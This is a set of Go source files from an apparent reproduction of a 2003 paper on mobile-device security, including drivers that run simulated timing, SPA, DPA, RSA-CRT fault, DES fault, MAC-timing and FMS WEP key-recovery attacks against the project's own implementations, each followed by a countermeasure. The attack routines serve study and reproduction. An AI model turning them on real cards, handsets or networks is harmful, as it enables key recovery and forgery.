		fmt.Printf("\nexperiment B1 — closing the gap on the %s (0.5 s latency, 10 Mbps, 3DES+SHA):\n", cpu.Name)
		fmt.Printf("  %-16s %14s %9s %14s\n", "architecture", "demand (MIPS)", "feasible", "max rate Mbps")
		for _, r := range rows {
			fmt.Printf("  %-16s %14.1f %9v %14.1f\n", r.Arch, r.DemandMIPS, r.Feasible, r.MaxRateMbps)
		}
	}
	o.Finish("gapfig")
}
