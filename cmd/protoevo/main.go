// Command protoevo regenerates Figure 2 of the paper: the evolution
// timeline of the wired (IPSec, SSL/TLS) and wireless (WTLS, MET)
// security protocol families, with per-family revision rates.
package main

import (
	"flag"
	"fmt"
	"os"

	mobilesec "repro"
	"repro/internal/core"
	"repro/internal/obs"
	_ "repro/internal/obs/ts" // series recorder for -series
)

func main() {
	verbose := flag.Bool("v", false, "list every revision with its note")
	o := obs.BindFlags(flag.CommandLine)
	flag.Parse()
	if err := o.Activate(); err != nil {
		fmt.Fprintf(os.Stderr, "protoevo: %v\n", err)
		os.Exit(1)
	}
	defer o.Close()

	fmt.Print(mobilesec.RenderTimeline())
	fmt.Println()

	fmt.Println("revision rates (revisions per active year):")
	for _, fam := range core.Families() {
		rate, err := mobilesec.RevisionRate(fam)
		if err != nil {
			fmt.Fprintf(os.Stderr, "protoevo: %v\n", err)
			os.Exit(1)
		}
		fmt.Printf("  %-8s %.2f/yr\n", fam, rate)
	}
	fmt.Println("\nwireless families start later and revise faster — the Section 3.1")
	fmt.Println("flexibility argument: security architectures must absorb new standards.")

	if *verbose {
		fmt.Println("\nfull revision list:")
		for _, r := range mobilesec.EvolutionTimeline() {
			fmt.Printf("  %7.1f  %-8s %-28s %s\n", r.Year, r.Family, r.Name, r.Note)
		}
	}
	o.Finish("protoevo")
}
