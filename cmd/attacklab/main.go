// Command attacklab demonstrates the Section 3.4 tamper-resistance story
// end to end: each physical/side-channel/protocol attack is mounted
// against the undefended implementation (and succeeds), then against the
// countermeasure (and fails).
package main

import (
	"bytes"
	"flag"
	"fmt"
	"math/big"
	"os"

	"repro/internal/attack/dfa"
	"repro/internal/attack/dpa"
	"repro/internal/attack/fault"
	"repro/internal/attack/maccompare"
	"repro/internal/attack/spa"
	"repro/internal/attack/timing"
	"repro/internal/attack/wepattack"
	"repro/internal/crypto/des"
	"repro/internal/crypto/mp"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/rsa"
	"repro/internal/crypto/sha1"
	"repro/internal/obs"
	"repro/internal/obs/prof"
	_ "repro/internal/obs/ts" // series recorder for -series
	"repro/internal/wep"
)

func main() {
	only := flag.String("only", "", "run a single attack: timing, dpa, fault, wep")
	o := obs.BindFlags(flag.CommandLine)
	flag.Parse()
	if err := o.Activate(); err != nil {
		fmt.Fprintf(os.Stderr, "attacklab: %v\n", err)
		os.Exit(1)
	}
	defer o.Close()

	attacks := []struct {
		name string
		run  func() error
	}{
		{"timing", timingDemo},
		{"spa", spaDemo},
		{"dpa", dpaDemo},
		{"fault", faultDemo},
		{"wep", wepDemo},
		{"maccompare", macCompareDemo},
		{"dfa", dfaDemo},
	}
	for _, a := range attacks {
		if *only != "" && *only != a.name {
			continue
		}
		fmt.Printf("=== %s ===\n", a.name)
		sp := obs.StartSpan("attack", a.name)
		err := a.run()
		sp.End()
		if err != nil {
			fmt.Fprintf(os.Stderr, "attacklab: %s: %v\n", a.name, err)
			o.Close()
			os.Exit(1)
		}
		fmt.Println()
	}
	o.Finish("attacklab")
}

func timingDemo() error {
	rng := prng.NewDRBG([]byte("lab-timing"))
	n := new(big.Int).SetBytes(rng.Bytes(32))
	n.SetBit(n, 255, 1)
	n.SetBit(n, 0, 1)
	ctx, err := mp.NewMontCtx(n)
	if err != nil {
		return err
	}
	secret := new(big.Int).SetBytes(rng.Bytes(4))
	secret.SetBit(secret, 31, 1)
	secret.SetBit(secret, 0, 1)
	bases := make([]*big.Int, 7000)
	for i := range bases {
		x := new(big.Int).SetBytes(rng.Bytes(32))
		bases[i] = x.Mod(x, n)
	}
	fmt.Printf("victim: leaky square-and-multiply modexp, 32-bit secret exponent, %d timed queries\n", len(bases))
	// An oracle observation *is* the victim's simulated cycle count, so
	// profiling the attack workload is a matter of accumulating what the
	// attacker measures (metered frames are no-ops unless -profile).
	meter := func(o timing.Oracle, frame string) timing.Oracle {
		sp := prof.Frame(frame)
		return func(base *big.Int) float64 {
			t := o(base)
			sp.AddCycles(int64(t))
			return t
		}
	}
	leaky := meter(timing.LeakyOracle(ctx, secret, nil), "attacklab.timing/mp.ModExp")
	res, err := timing.RecoverExponent(ctx, leaky, 32, bases)
	if err != nil {
		return err
	}
	fmt.Printf("  recovered %#x (truth %#x) — match=%v, confidence %.2f\n",
		res.Recovered, secret, res.Recovered.Cmp(secret) == 0, res.Confidence)

	ct := meter(timing.ConstTimeOracle(ctx, secret, nil), "attacklab.timing/mp.ModExpConstTime")
	resCT, err := timing.RecoverExponent(ctx, ct, 32, bases)
	if err != nil {
		return err
	}
	fmt.Printf("  against Montgomery-ladder countermeasure: match=%v, confidence %.2f (attack defeated)\n",
		resCT.Recovered.Cmp(secret) == 0, resCT.Confidence)
	return nil
}

func dpaDemo() error {
	key := []byte("handset AES key!")
	rng := prng.NewDRBG([]byte("lab-dpa"))
	ts, err := dpa.CollectAES(key, 500, 0.8, rng, false)
	if err != nil {
		return err
	}
	got, corrs, err := dpa.AttackAES(ts)
	if err != nil {
		return err
	}
	fmt.Printf("victim: AES-128 first round, 500 Hamming-weight traces (σ=0.8)\n")
	fmt.Printf("  recovered key match=%v (mean winning correlation %.2f)\n",
		bytes.Equal(got, key), mean(corrs))

	masked, err := dpa.CollectAES(key, 500, 0.8, rng, true)
	if err != nil {
		return err
	}
	gotM, corrsM, err := dpa.AttackAES(masked)
	if err != nil {
		return err
	}
	fmt.Printf("  against Boolean masking: match=%v (mean correlation %.2f — attack defeated)\n",
		bytes.Equal(gotM, key), mean(corrsM))
	return nil
}

func faultDemo() error {
	key, err := rsa.GenerateKey(prng.NewDRBG([]byte("lab-fault")), 512)
	if err != nil {
		return err
	}
	digest := sha1.Sum([]byte("firmware update 7.3"))
	faulty, err := rsa.SignPKCS1(key, "sha1", digest[:], &rsa.Options{Fault: &rsa.Fault{FlipBit: 41}})
	if err != nil {
		return err
	}
	fmt.Println("victim: RSA-512 CRT signing, one injected glitch in the mod-p half")
	factor, err := fault.FactorFromFaultySignature(&key.PublicKey, "sha1", digest[:], faulty)
	if err != nil {
		return err
	}
	fmt.Printf("  gcd(s^e - m, N) factored the modulus: factor matches q=%v\n", factor.Cmp(key.Q) == 0 || factor.Cmp(key.P) == 0)
	full, err := fault.RecoverPrivateKey(&key.PublicKey, factor)
	if err != nil {
		return err
	}
	fmt.Printf("  full private key rebuilt: d matches=%v\n", full.D.Cmp(key.D) == 0)

	_, err = rsa.SignPKCS1(key, "sha1", digest[:], &rsa.Options{
		Fault: &rsa.Fault{FlipBit: 41}, VerifyAfterSign: true,
	})
	fmt.Printf("  against verify-before-release: signing aborted with %q (attack defeated)\n", err)
	return nil
}

func wepDemo() error {
	key := []byte{0x05, 0x13, 0x42, 0xAD, 0x77}
	rng := prng.NewDRBG([]byte("lab-wep"))

	// Bit-flip forgery.
	ep, err := wep.NewEndpoint(key, wep.IVSequential)
	if err != nil {
		return err
	}
	frame, err := ep.Seal([]byte("PAY mallory $001"))
	if err != nil {
		return err
	}
	delta := make([]byte, 16)
	delta[13] = '0' ^ '9'
	forged, err := wepattack.ForgeBitFlip(frame, delta)
	if err != nil {
		return err
	}
	got, err := ep.Open(forged)
	fmt.Printf("ICV bit-flip forgery: victim accepted %q (err=%v)\n", got, err)

	// FMS key recovery.
	var frames [][]byte
	payload := make([]byte, 16)
	for b := 0; b < len(key); b++ {
		for x := 0; x < 256; x++ {
			iv := [3]byte{byte(b + 3), 255, byte(x)}
			payload[0] = 0xAA
			rng.Read(payload[1:])
			f, err := wep.SealWithIV(key, iv, payload)
			if err != nil {
				return err
			}
			frames = append(frames, f)
		}
	}
	ref, err := wep.SealWithIV(key, [3]byte{77, 1, 2}, []byte("known dhcp frame"))
	if err != nil {
		return err
	}
	verify := func(k []byte) bool {
		pt, err := wep.Open(k, ref)
		return err == nil && bytes.Equal(pt, []byte("known dhcp frame"))
	}
	res, err := wepattack.FMSRecoverKey(frames, 0xAA, len(key), verify)
	if err != nil {
		return err
	}
	fmt.Printf("FMS weak-IV attack: recovered WEP-40 key %x from %d sniffed frames (match=%v)\n",
		res.Key, len(frames), bytes.Equal(res.Key, key))
	return nil
}

func spaDemo() error {
	rng := prng.NewDRBG([]byte("lab-spa"))
	n := new(big.Int).SetBytes(rng.Bytes(64))
	n.SetBit(n, 511, 1)
	n.SetBit(n, 0, 1)
	ctx, err := mp.NewMontCtx(n)
	if err != nil {
		return err
	}
	secret := new(big.Int).SetBytes(rng.Bytes(64))
	secret.SetBit(secret, 511, 1)
	_, trace := ctx.ModExpWithTrace(big.NewInt(7), secret, nil)
	got, err := spa.RecoverExponent(ctx, trace)
	if err != nil {
		return err
	}
	fmt.Printf("victim: leaky 512-bit modexp, ONE operation-duration trace (%d samples)\n", len(trace))
	fmt.Printf("  exponent read straight off the trace: match=%v\n", got.Cmp(secret) == 0)
	_, flat := ctx.ModExpConstTimeWithTrace(big.NewInt(7), secret, nil)
	fmt.Printf("  against the Montgomery ladder: trace flat=%v (attack defeated)\n", spa.TraceIsFlat(flat))
	return nil
}

func macCompareDemo() error {
	v := maccompare.NewVerifier([]byte("shared key"), []byte("POST /pay?amt=999"), false)
	forged, queries, err := maccompare.ForgeMAC(v)
	if err != nil {
		return err
	}
	ok, _ := v.Check(forged)
	fmt.Printf("victim: early-exit MAC comparison (20-byte HMAC-SHA1)\n")
	fmt.Printf("  forged a valid MAC in %d timing queries (vs 2^160 blind): accepted=%v\n", queries, ok)
	ct := maccompare.NewVerifier([]byte("shared key"), []byte("POST /pay?amt=999"), true)
	_, _, err = maccompare.ForgeMAC(ct)
	fmt.Printf("  against constant-time comparison: %v (attack defeated)\n", err)
	return nil
}

func mean(xs []float64) float64 {
	s := 0.0
	for _, x := range xs {
		s += x
	}
	return s / float64(len(xs))
}

func dfaDemo() error {
	c, err := des.NewCipher([]byte{0x13, 0x34, 0x57, 0x79, 0x9B, 0xBC, 0xDF, 0xF1})
	if err != nil {
		return err
	}
	rng := prng.NewDRBG([]byte("lab-dfa"))
	var pts [][]byte
	for i := 0; i < 32; i++ {
		pts = append(pts, rng.Bytes(8))
	}
	bits := []uint{0, 3, 7, 11, 14, 18, 21, 25, 28, 30, 2, 9, 16, 23, 27, 31}
	pairs, err := dfa.CollectPairs(c, pts, bits)
	if err != nil {
		return err
	}
	k16, err := dfa.RecoverLastSubkey(pairs)
	if err != nil {
		return err
	}
	fmt.Printf("victim: DES with single-bit glitches in R15, %d faulty pairs\n", len(pairs))
	fmt.Printf("  recovered last-round subkey K16=%012x (match=%v)\n", k16, k16 == c.Subkey(15))
	_, rerr := dfa.RedundantEncrypt(c, pts[0], 9)
	fmt.Printf("  against redundant execution: %v (attack defeated)\n", rerr)
	return nil
}
