// Command paperrepro is the self-checking reproduction harness: it
// re-derives every quantitative figure and claim of the paper from the
// running system, compares each against the published value or property,
// and prints a PASS/FAIL table (exit status 1 on any failure).
//
//	go run ./cmd/paperrepro
package main

import (
	"bytes"
	"flag"
	"fmt"
	"math"
	"math/big"
	"os"
	"runtime"

	mobilesec "repro"
	"repro/internal/attack/dpa"
	"repro/internal/attack/fault"
	"repro/internal/attack/spa"
	"repro/internal/attack/timing"
	"repro/internal/attack/wepattack"
	"repro/internal/cost"
	"repro/internal/crypto/mp"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/rsa"
	"repro/internal/crypto/sha1"
	"repro/internal/obs"
	_ "repro/internal/obs/ts" // series recorder for -series
	"repro/internal/par"
	"repro/internal/wep"
)

type check struct {
	id       string
	claim    string
	expected string
	measured string
	pass     bool
}

func main() {
	workers := flag.Int("workers", runtime.GOMAXPROCS(0),
		"sweep worker count; output is identical at any value, 1 runs sequentially")
	o := obs.BindFlags(flag.CommandLine)
	flag.Parse()
	par.SetDefaultWorkers(*workers)
	if err := o.Activate(); err != nil {
		fmt.Fprintf(os.Stderr, "paperrepro: %v\n", err)
		os.Exit(1)
	}
	defer o.Close()

	var checks []check
	sp := obs.StartSpan("repro", "all_checks")
	add := func(id, claim, expected, measured string, pass bool) {
		checks = append(checks, check{id, claim, expected, measured, pass})
		obs.Emit("repro", "check_"+id, int64(len(checks)))
	}

	// ---- F2: protocol evolution --------------------------------------
	wired, err := mobilesec.RevisionRate("SSL/TLS")
	die(err)
	wtlsRate, err := mobilesec.RevisionRate("WTLS")
	die(err)
	add("F2", "wireless protocols revise faster than wired", "WTLS rate > SSL/TLS rate",
		fmt.Sprintf("%.2f vs %.2f rev/yr", wtlsRate, wired), wtlsRate > wired)

	// ---- F3 / T1: processing gap --------------------------------------
	bulk, err := cost.DemandMIPS(1e12, 10, cost.HandshakeRSA1024, cost.DES3, cost.SHA1)
	die(err)
	add("T1", "3DES+SHA @ 10 Mbps demand", "651.3 MIPS",
		fmt.Sprintf("%.1f MIPS", bulk), math.Abs(bulk-651.3) < 0.1)

	surface, err := mobilesec.ComputeGapSurface(mobilesec.DefaultLatencies(), mobilesec.DefaultRates(), 300)
	die(err)
	add("F3", "gap region above the 300-MIPS plane", "substantial fraction of envelope",
		fmt.Sprintf("%.0f%% infeasible", surface.GapFraction()*100),
		surface.GapFraction() > 0.3 && surface.GapFraction() < 1)

	sa1100, err := mobilesec.ProcessorByName("StrongARM-SA1100")
	die(err)
	h, err := cost.HandshakeInstr(cost.HandshakeRSA1024)
	die(err)
	hsSec := h / (sa1100.MIPS * 1e6)
	okHalf, err := mobilesec.SoftwareOnly(sa1100).Feasible(0.5, 0, cost.HandshakeRSA1024, cost.DES3, cost.SHA1)
	die(err)
	okTenth, err := mobilesec.SoftwareOnly(sa1100).Feasible(0.1, 0, cost.HandshakeRSA1024, cost.DES3, cost.SHA1)
	die(err)
	add("T2", "SA-1100 RSA connection set-up latency", "0.5 s and 1 s feasible, 0.1 s not",
		fmt.Sprintf("handshake %.2f s; 0.5s=%v 0.1s=%v", hsSec, okHalf, okTenth),
		okHalf && !okTenth)

	// ---- F4 / T3: battery ---------------------------------------------
	fig, err := mobilesec.ComputeBatteryFigure()
	die(err)
	plainTx := fig.Modes[0].Transactions
	secureTx := fig.Modes[1].Transactions
	ratio := fig.Modes[1].RelativeToPlain
	add("F4", "1 KB transactions per 26 KJ battery", "≈726k plain / ≈334k secure",
		fmt.Sprintf("%d / %d", plainTx, secureTx),
		plainTx > 700_000 && plainTx < 750_000 && secureTx > 320_000 && secureTx < 350_000)
	add("T3", "secure-mode transaction count", "less than half of plain",
		fmt.Sprintf("%.2fx", ratio), ratio < 0.5 && ratio > 0.4)

	// ---- T4: processor ladder ------------------------------------------
	ladderOK := true
	for _, want := range []struct {
		name string
		mips float64
	}{
		{"DragonBall-68EC000", 2.7}, {"ARM7-cell-phone", 20},
		{"StrongARM-SA1100", 235}, {"Pentium4-2.6GHz", 2890},
	} {
		p, err := mobilesec.ProcessorByName(want.name)
		if err != nil || p.MIPS != want.mips {
			ladderOK = false
		}
	}
	add("T4", "MIPS ladder 2.7/20/235/2890", "catalog matches §3.2", "catalog verified", ladderOK)

	// ---- B1: accelerator ablation ---------------------------------------
	rows, err := mobilesec.AcceleratorAblation(sa1100)
	die(err)
	add("B1", "HW acceleration closes the 10 Mbps gap",
		"sw infeasible → protocol engine feasible",
		fmt.Sprintf("sw %.0f MIPS (feasible=%v) → engine %.0f MIPS (feasible=%v)",
			rows[0].DemandMIPS, rows[0].Feasible,
			rows[len(rows)-1].DemandMIPS, rows[len(rows)-1].Feasible),
		!rows[0].Feasible && rows[len(rows)-1].Feasible)

	// ---- B4: queue-level consistency ------------------------------------
	sw := mobilesec.SoftwarePacketServer(sa1100, cost.DES3, cost.SHA1, 2000)
	pkts, err := mobilesec.CBRStream(10, 1500, 50)
	die(err)
	_, swStats, err := mobilesec.SimulatePacketQueue(sw, pkts)
	die(err)
	analyticMax, err := mobilesec.SoftwareOnly(sa1100).MaxRateMbps(1e12, cost.HandshakeRSA1024, cost.DES3, cost.SHA1)
	die(err)
	add("B4", "queue simulation agrees with analytic max rate",
		fmt.Sprintf("≈%.1f Mbps sustained", analyticMax),
		fmt.Sprintf("%.1f Mbps sustained", swStats.ThroughputMbps),
		math.Abs(swStats.ThroughputMbps-analyticMax) < 0.4)

	// ---- A1: timing attack (reduced size for speed) ---------------------
	{
		rng := prng.NewDRBG([]byte("repro-timing"))
		n := new(big.Int).SetBytes(rng.Bytes(32))
		n.SetBit(n, 255, 1)
		n.SetBit(n, 0, 1)
		ctx, err := mp.NewMontCtx(n)
		die(err)
		secret := new(big.Int).SetBytes(rng.Bytes(3))
		secret.SetBit(secret, 23, 1)
		secret.SetBit(secret, 0, 1)
		bases := make([]*big.Int, 4000)
		for i := range bases {
			x := new(big.Int).SetBytes(rng.Bytes(32))
			bases[i] = x.Mod(x, n)
		}
		res, err := timing.RecoverExponent(ctx, timing.LeakyOracle(ctx, secret, nil), 24, bases)
		die(err)
		ct, err := timing.RecoverExponent(ctx, timing.ConstTimeOracle(ctx, secret, nil), 24, bases)
		die(err)
		add("A1", "timing attack on leaky modexp; ladder immune",
			"recover 24-bit exponent; fail vs ladder",
			fmt.Sprintf("leaky match=%v, ladder match=%v", res.Recovered.Cmp(secret) == 0, ct.Recovered.Cmp(secret) == 0),
			res.Recovered.Cmp(secret) == 0 && ct.Recovered.Cmp(secret) != 0)

		// A5: SPA single-trace read-out.
		_, trace := ctx.ModExpWithTrace(big.NewInt(7), secret, nil)
		got, err := spa.RecoverExponent(ctx, trace)
		add("A5", "SPA reads exponent from one trace", "full recovery",
			fmt.Sprintf("match=%v", err == nil && got.Cmp(secret) == 0),
			err == nil && got.Cmp(secret) == 0)
	}

	// ---- A2: DPA ----------------------------------------------------------
	{
		key := []byte("sixteen byte key")
		rng := prng.NewDRBG([]byte("repro-dpa"))
		ts, err := dpa.CollectAES(key, 300, 0.5, rng, false)
		die(err)
		got, _, err := dpa.AttackAES(ts)
		die(err)
		masked, err := dpa.CollectAES(key, 300, 0.5, rng, true)
		die(err)
		gotM, _, err := dpa.AttackAES(masked)
		die(err)
		add("A2", "DPA on AES round 1; masking immune", "recover key; fail vs masking",
			fmt.Sprintf("plain match=%v, masked match=%v", bytes.Equal(got, key), bytes.Equal(gotM, key)),
			bytes.Equal(got, key) && !bytes.Equal(gotM, key))
	}

	// ---- A3: fault attack --------------------------------------------------
	{
		key, err := rsa.GenerateKey(prng.NewDRBG([]byte("repro-fault")), 512)
		die(err)
		digest := sha1.Sum([]byte("m"))
		faulty, err := rsa.SignPKCS1(key, "sha1", digest[:], &rsa.Options{Fault: &rsa.Fault{FlipBit: 9}})
		die(err)
		factor, ferr := fault.FactorFromFaultySignature(&key.PublicKey, "sha1", digest[:], faulty)
		_, verr := rsa.SignPKCS1(key, "sha1", digest[:],
			&rsa.Options{Fault: &rsa.Fault{FlipBit: 9}, VerifyAfterSign: true})
		factored := ferr == nil && (factor.Cmp(key.P) == 0 || factor.Cmp(key.Q) == 0)
		add("A3", "one CRT glitch factors N; verify-before-release immune",
			"factor recovered; hardened card refuses",
			fmt.Sprintf("factored=%v, hardened err=%v", factored, verr == rsa.ErrFaultDetected),
			factored && verr == rsa.ErrFaultDetected)
	}

	// ---- A4: WEP / FMS -------------------------------------------------------
	{
		key := []byte{0x05, 0x13, 0x42, 0xAD, 0x77}
		rng := prng.NewDRBG([]byte("repro-fms"))
		var frames [][]byte
		payload := make([]byte, 16)
		for b := 0; b < len(key); b++ {
			for x := 0; x < 256; x++ {
				iv := [3]byte{byte(b + 3), 255, byte(x)}
				payload[0] = 0xAA
				rng.Read(payload[1:])
				f, err := wep.SealWithIV(key, iv, payload)
				die(err)
				frames = append(frames, f)
			}
		}
		ref, err := wep.SealWithIV(key, [3]byte{70, 1, 2}, []byte("reference"))
		die(err)
		verify := func(k []byte) bool {
			got, err := wep.Open(k, ref)
			return err == nil && bytes.Equal(got, []byte("reference"))
		}
		res, ferr := wepattack.FMSRecoverKey(frames, 0xAA, len(key), verify)
		recovered := ferr == nil && bytes.Equal(res.Key, key)

		// Mitigated traffic: filter the weak class.
		var filtered [][]byte
		for _, f := range frames {
			iv, _ := wep.FrameIV(f)
			if !wep.IsWeakIV(iv, len(key)) {
				filtered = append(filtered, f)
			}
		}
		_, merr := wepattack.FMSRecoverKey(filtered, 0xAA, len(key), verify)
		add("A4", "FMS recovers WEP-40 key; weak-IV filtering blunts it",
			"recover from weak IVs; fail when filtered",
			fmt.Sprintf("recovered=%v, filtered err=%v", recovered, merr != nil),
			recovered && merr != nil)
	}

	// ---- report -----------------------------------------------------------
	sp.SetN(int64(len(checks)))
	sp.End()
	fmt.Println("paper reproduction self-check")
	fmt.Println("=============================")
	failures := 0
	for _, c := range checks {
		status := "PASS"
		if !c.pass {
			status = "FAIL"
			failures++
		}
		fmt.Printf("[%s] %-4s %-52s\n        paper: %s\n        here : %s\n",
			status, c.id, c.claim, c.expected, c.measured)
	}
	fmt.Printf("\n%d/%d checks passed\n", len(checks)-failures, len(checks))
	if failures > 0 {
		o.Close()
		os.Exit(1)
	}
	o.Finish("paperrepro")
}

func die(err error) {
	if err != nil {
		fmt.Fprintf(os.Stderr, "paperrepro: %v\n", err)
		os.Exit(1)
	}
}
