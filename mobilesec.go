// Package mobilesec is the public API of a secure-mobile-appliance
// platform simulator reproducing "Securing Mobile Appliances: New
// Challenges for the System Designer" (Raghunathan, Ravi, Hattangady,
// Quisquater — DATE 2003).
//
// The paper surveys the system-design problem of securing battery-powered
// wireless devices. This library builds that whole platform from scratch
// on the Go standard library:
//
//   - crypto substrate: DES/3DES, AES, RC4, RC2, SHA-1, MD5, HMAC,
//     RSA (CRT, blinding, fault detection), Diffie-Hellman, HMAC-DRBG and
//     a simulated hardware TRNG (internal/crypto/...);
//   - protocol substrate: a WTLS/SSL-style handshake + record protocol, a
//     WEP-style link layer, an ESP-style network layer, and a layered
//     stack composing them (internal/wtls, internal/wep, internal/esp,
//     internal/stack);
//   - platform models: the paper's embedded-processor catalog, crypto
//     accelerator / protocol-engine architectures, battery and radio
//     energy models, and the calibrated cost model behind Figures 3-4
//     (internal/proc, internal/energy, internal/radio, internal/cost);
//   - tamper resistance: executable timing, DPA, RSA-CRT fault and WEP
//     attacks with their countermeasures (internal/attack/...);
//   - secure execution environment: hash-chained secure boot, sealed key
//     storage, secure RAM/ROM worlds and DRM (internal/see).
//
// This facade re-exports the pieces a downstream user composes, plus
// convenience constructors for the paper's reference platforms. The
// benchmarks in bench_test.go regenerate every figure; see EXPERIMENTS.md
// for paper-vs-measured numbers.
package mobilesec

import (
	"repro/internal/arq"
	"repro/internal/bearer"
	"repro/internal/biometric"
	"repro/internal/chaos"
	"repro/internal/core"
	"repro/internal/cost"
	"repro/internal/crypto/dh"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/rsa"
	"repro/internal/energy"
	"repro/internal/proc"
	"repro/internal/radio"
	"repro/internal/see"
	"repro/internal/setpay"
	"repro/internal/smartcard"
	"repro/internal/stack"
	"repro/internal/suite"
	"repro/internal/wep"
	"repro/internal/wtls"
)

// Platform modelling (Figures 3, 4, 6).
type (
	// Platform is the modular base architecture of Figure 6.
	Platform = core.Platform
	// PlatformConfig assembles a Platform.
	PlatformConfig = core.PlatformConfig
	// SessionReport prices one protocol session on a platform.
	SessionReport = core.SessionReport
	// Processor is a parametric CPU model from the paper's catalog.
	Processor = proc.Processor
	// Architecture is a CPU plus optional security hardware.
	Architecture = proc.Architecture
	// Battery is a finite energy store with a drain ledger.
	Battery = energy.Battery
	// Radio is a wireless link energy/airtime model.
	Radio = radio.Radio
	// GapSurface is the Figure 3 demand surface.
	GapSurface = core.GapSurface
	// BatteryFigure is the Figure 4 result.
	BatteryFigure = core.BatteryFigure
	// LossFigure is the transactions-vs-BER result on a lossy link.
	LossFigure = core.LossFigure
	// LossPoint is one BER column of a LossFigure.
	LossPoint = core.LossPoint
	// LossSimOptions tunes the simulated loss figure's ARQ endpoints.
	LossSimOptions = core.LossSimOptions
	// ArchitectureGapRow is one rung of the accelerator ablation (B1).
	ArchitectureGapRow = core.ArchitectureGapRow
	// Revision is one protocol revision on the Figure 2 timeline.
	Revision = core.Revision
	// Concern is one sector of the Figure 1 taxonomy.
	Concern = core.Concern
)

// Protocols.
type (
	// Conn is a WTLS connection endpoint.
	Conn = wtls.Conn
	// Config configures a WTLS endpoint.
	Config = wtls.Config
	// Certificate is a compact WTLS-style certificate.
	Certificate = wtls.Certificate
	// CA issues certificates.
	CA = wtls.CA
	// SessionCache enables session resumption.
	SessionCache = wtls.SessionCache
	// Metrics is a connection's modeled work.
	Metrics = wtls.Metrics
	// Suite is one negotiable cipher suite.
	Suite = suite.Suite
	// Stack composes protection layers (Figure 5).
	Stack = stack.Stack
	// WEPEndpoint is a WEP-style link endpoint.
	WEPEndpoint = wep.Endpoint
	// DRBG is the deterministic random bit generator.
	DRBG = prng.DRBG
	// TRNG is the simulated hardware entropy source.
	TRNG = prng.TRNG
	// RSAPrivateKey is an RSA private key with CRT parameters.
	RSAPrivateKey = rsa.PrivateKey
	// RSAPublicKey is an RSA public key.
	RSAPublicKey = rsa.PublicKey
	// DHGroup is a Diffie-Hellman group.
	DHGroup = dh.Group
	// SIM is a GSM-style subscriber identity module.
	SIM = bearer.SIM
	// AuthCenter is the bearer network's subscriber database.
	AuthCenter = bearer.AuthCenter
	// BearerChannel is an A5/1-ciphered air-interface link.
	BearerChannel = bearer.Channel
	// AdaptivePolicy selects cipher suites by battery state
	// (Section 3.3's battery-aware design).
	AdaptivePolicy = core.AdaptivePolicy
	// PolicyTier maps a battery band to a suite.
	PolicyTier = core.PolicyTier
	// LifetimeResult compares fixed vs adaptive security lifetimes.
	LifetimeResult = core.LifetimeResult
	// BiometricSubject is a person with a ground-truth biometric.
	BiometricSubject = biometric.Subject
	// BiometricMatcher verifies scans against an enrolled template.
	BiometricMatcher = biometric.Matcher
	// UserVerifier is the complete user-identification block
	// (biometric + PIN fallback + lockout) of Figure 1.
	UserVerifier = biometric.Verifier
	// SmartCard is the ISO 7816-style card of the Section 3.4 attacks.
	SmartCard = smartcard.Card
	// SmartCardConfig assembles a SmartCard.
	SmartCardConfig = smartcard.Config
	// APDUCommand is a card command.
	APDUCommand = smartcard.Command
	// APDUResponse is a card response.
	APDUResponse = smartcard.Response
	// FaultyTransport is a deterministic lossy-link fault injector.
	FaultyTransport = chaos.FaultyTransport
	// FaultConfig sets loss, corruption, duplication, reordering and
	// burst parameters for a FaultyTransport.
	FaultConfig = chaos.Config
	// BurstModel is the Gilbert-Elliott two-state burst-loss channel.
	BurstModel = chaos.Burst
	// FaultStats counts the faults a FaultyTransport injected.
	FaultStats = chaos.Stats
	// ARQEndpoint is one end of the retransmission reliability layer.
	ARQEndpoint = arq.Endpoint
	// ARQConfig tunes the ARQ window, timers and energy hooks.
	ARQConfig = arq.Config
	// ARQStats counts ARQ traffic, retransmissions and errors.
	ARQStats = arq.Stats
	// PacketServer is a serial packet processor (software or engine).
	PacketServer = proc.Server
	// PacketQueueStats summarizes a packet-queue simulation.
	PacketQueueStats = proc.QueueStats
	// OrderInfo is the SET-style purchase half of a dual signature.
	OrderInfo = setpay.OrderInfo
	// PaymentInfo is the SET-style card half of a dual signature.
	PaymentInfo = setpay.PaymentInfo
	// DualSignature binds an order to a payment with non-repudiation
	// (the application-level security of Section 2).
	DualSignature = setpay.DualSignature
)

// Secure execution environment (Figure 6, Sections 3.4/4.1).
type (
	// BootImage is one secure-boot stage.
	BootImage = see.Image
	// BootROM pins the boot chain root.
	BootROM = see.ROM
	// KeyStore is sealed secure storage.
	KeyStore = see.KeyStore
	// MemoryMap is the secure RAM/ROM model.
	MemoryMap = see.MemoryMap
	// DRMAgent enforces content licenses.
	DRMAgent = see.DRMAgent
	// Rights is a content-license grant.
	Rights = see.Rights
)

// Re-exported constructors and figure generators.
var (
	// NewDRBG creates a seeded deterministic random bit generator.
	NewDRBG = prng.NewDRBG
	// NewTRNG creates a simulated hardware TRNG.
	NewTRNG = prng.NewTRNG
	// NewPlatform builds a Figure 6 platform.
	NewPlatform = core.NewPlatform
	// NewBattery creates a battery.
	NewBattery = energy.NewBattery
	// NewSensorRadio returns the paper's 10 Kbps sensor radio.
	NewSensorRadio = radio.NewSensorRadio
	// NewWLANRadio returns an 802.11-class radio at the given Mbps.
	NewWLANRadio = radio.NewWLANRadio
	// ProcessorCatalog returns the paper's MIPS ladder (Section 3.2).
	ProcessorCatalog = proc.Catalog
	// ProcessorByName looks up a catalog processor.
	ProcessorByName = proc.ByName
	// SoftwareOnly wraps a CPU with no security hardware.
	SoftwareOnly = proc.SoftwareOnly
	// WithISAExtensions models SmartMIPS/SecurCore-class cores.
	WithISAExtensions = proc.WithISAExtensions
	// WithCryptoAccelerator models Discretix/Safenet-class engines.
	WithCryptoAccelerator = proc.WithCryptoAccelerator
	// WithProtocolEngine models MOSES-class protocol engines.
	WithProtocolEngine = proc.WithProtocolEngine

	// ComputeGapSurface regenerates Figure 3.
	ComputeGapSurface = core.ComputeGapSurface
	// ComputeGapSurfaceFor regenerates Figure 3 for any workload.
	ComputeGapSurfaceFor = core.ComputeGapSurfaceFor
	// DefaultLatencies is Figure 3's latency axis.
	DefaultLatencies = core.DefaultLatencies
	// DefaultRates is Figure 3's data-rate axis.
	DefaultRates = core.DefaultRates
	// ComputeBatteryFigure regenerates Figure 4 analytically.
	ComputeBatteryFigure = core.ComputeBatteryFigure
